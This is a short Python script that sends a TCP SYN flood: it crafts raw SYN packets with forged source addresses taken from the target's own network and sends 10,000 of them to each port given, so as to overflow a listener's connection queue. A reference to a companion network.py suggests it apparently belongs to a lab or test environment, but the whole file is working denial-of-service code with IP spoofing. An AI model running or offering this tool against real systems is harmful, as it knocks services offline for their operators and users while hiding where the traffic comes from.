# SPDX-License-Identifier: BSD-3-Clause
"""flood.py ADDRESS PORT...: 10,000 requests for a connection of TCP to each port that nobody means: packets with SYN,
from addresses of the hosts' network that are nobody's. Needs root."""

import random
import socket
import struct
import sys
from ipaddress import IPv4Address

NOBODY = range(101, 253)  # last bytes of the addresses; network.py has hosts up to 100
SYN, WINDOW, TTL = 0x02, 64240, 64


def checksum(data: bytes) -> int:
    """The checksum of the Internet (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source: IPv4Address, target: IPv4Address, port: int, chance: random.Random) -> bytes:
    """One request; the system completes the head of IP."""
    ports = (chance.randrange(1024, 65536), port)
    tcp = struct.pack("!HHIIBBHHH", *ports, chance.getrandbits(32), 0, 5 << 4, SYN, WINDOW, 0, 0)
    pseudo = source.packed + target.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, TTL, socket.IPPROTO_TCP, 0)
    return ip + source.packed + target.packed + tcp


def send(target: str, ports: list[int], count: int = 10_000) -> None:
    """So many to each port: more than the queue of a listener holds."""
    chance = random.Random(1)
    to = IPv4Address(target)
    network = int(to) & ~0xFF
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            source = IPv4Address(network + chance.choice(NOBODY))
            for port in ports:
                raw.sendto(packet(source, to, port, chance), (target, 0))


if __name__ == "__main__":
    send(sys.argv[1], [int(port) for port in sys.argv[2:]])
